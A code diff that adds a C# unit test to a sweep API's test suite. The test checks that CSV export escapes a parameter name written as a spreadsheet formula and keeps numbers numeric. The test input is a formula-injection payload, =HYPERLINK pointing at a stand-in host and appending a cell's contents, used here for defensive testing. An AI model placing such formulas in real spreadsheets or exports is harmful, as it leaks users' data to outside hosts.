@@ -72,6 +72,22 @@ public sealed class GetSweepTests(SentinelApp app)
         Assert.Equal(3, lines.Length);
     }
 
+    [Fact]
+    public async Task A_name_that_a_spreadsheet_would_compute_is_text_in_the_table_and_numbers_stay_numbers()
+    {
+        const string name = "=HYPERLINK(\"http://x/?\"&A2)";
+        const string code = "double[] GenerateSignals(Bars bars, Parameters parameters) => new double[bars.Count];";
+        var sweep = await http.Sweep(SweepRequests.Of("formula", code, new Dictionary<string, double[]> { [name] = [-1.5, 2] }));
+        using var request = new HttpRequestMessage(HttpMethod.Get, $"/v1/sweeps/{sweep.Id()}");
+        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
+
+        using var response = await http.SendAsync(request);
+        var lines = (await response.Content.ReadAsStringAsync()).Split(Environment.NewLine);
+
+        Assert.StartsWith("index,\"'=HYPERLINK(\"\"http://x/?\"\"&A2)\",reason_code,", lines[0], StringComparison.Ordinal);
+        Assert.StartsWith("0,-1.5,", lines[1], StringComparison.Ordinal);
+    }
+
     private static int[] Indices(JsonElement sweep) =>
         [.. sweep.GetProperty("best").EnumerateArray().Select(point => point.GetProperty("index").GetInt32())];
 }
